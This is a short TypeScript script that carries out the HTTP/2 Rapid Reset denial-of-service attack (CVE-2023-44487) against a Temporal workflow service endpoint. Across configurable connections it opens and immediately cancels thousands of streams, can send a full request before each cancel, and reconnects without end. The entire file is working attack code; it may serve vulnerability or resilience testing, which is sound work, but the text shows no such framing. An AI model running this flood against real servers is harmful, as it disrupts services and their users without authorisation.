/**
 * Calls that are cancelled with the same breath (CVE-2023-44487), as fast as they are taken. Another connection when one is ended.
 * `whole`: with the whole request before the cancel, so that its method is asked.
 */
import { floodForEver } from '../flood-loop.ts';
import { data, firstHeaders, nextHeaders, Repeated, reset } from '../raw-http2.ts';

const [address = '', connections = '1', kind = 'headers'] = process.argv.slice(2);
const path = '/temporal.api.workflowservice.v1.WorkflowService/PollWorkflowTaskQueue';
/** namespace, task_queue { name } */
const poll = Buffer.from('\n\x05flood\x12\x03\n\x01q');
const request = Buffer.concat([Buffer.from([0, 0, 0, 0, poll.length]), poll]);
const calls = new Repeated(2_000, (stream) => [
  nextHeaders(stream),
  ...(kind === 'whole' ? [data(stream, request, true)] : []),
  reset(stream),
]);

await floodForEver(address, Number(connections), () => calls.behind([firstHeaders(1, path), reset(1)]));
